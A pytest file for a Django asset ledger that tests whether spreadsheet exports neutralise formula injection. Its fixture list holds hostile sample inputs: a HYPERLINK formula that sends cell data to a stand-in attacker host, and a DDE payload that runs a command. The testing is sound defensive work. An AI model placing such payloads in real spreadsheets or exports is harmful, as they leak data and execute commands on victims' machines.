"""The ledger export keeps text that a spreadsheet would run (= + - @, tab, CR at the start) as text."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from houqin.core.choices import Role

from .factories import make_asset

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
]


@pytest.fixture
def cards(world):
    rows = [make_asset(world, name=text[:100], spec=text) for text in DANGEROUS]
    rows.append(make_asset(world, name="台式计算机", spec="i5/8G/512G"))
    return rows


def test_formula_like_names_and_specs_come_back_as_text(world, login, cards):
    client = login(world.member(Role.ASSET_CLERK))
    response = client.get(reverse("assets:asset_export", args=["org-a"]))
    assert response.status_code == 200
    workbook = load_workbook(BytesIO(b"".join(response.streaming_content)))  # not read-only: cell types
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    name_column = header.index("名称" if "名称" in header else "Name") + 1
    spec_column = next(i for i, h in enumerate(header, start=1) if h in ("规格", "Specification"))
    by_name, formulas = {}, []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("=")):
                formulas.append(cell.coordinate)
        name, spec = row[name_column - 1], row[spec_column - 1]
        assert name.data_type == "s" and spec.data_type == "s"
        by_name[name.value] = spec.value
    assert formulas == []  # nothing a spreadsheet would calculate
    # XML reads a CR back as LF (line-end normalisation); the apostrophe in front is what matters.
    expected = {"'" + text[:100].replace("\r", "\n"): "'" + text.replace("\r", "\n") for text in DANGEROUS}
    expected["台式计算机"] = "i5/8G/512G"  # ordinary text is untouched
    assert by_name == expected
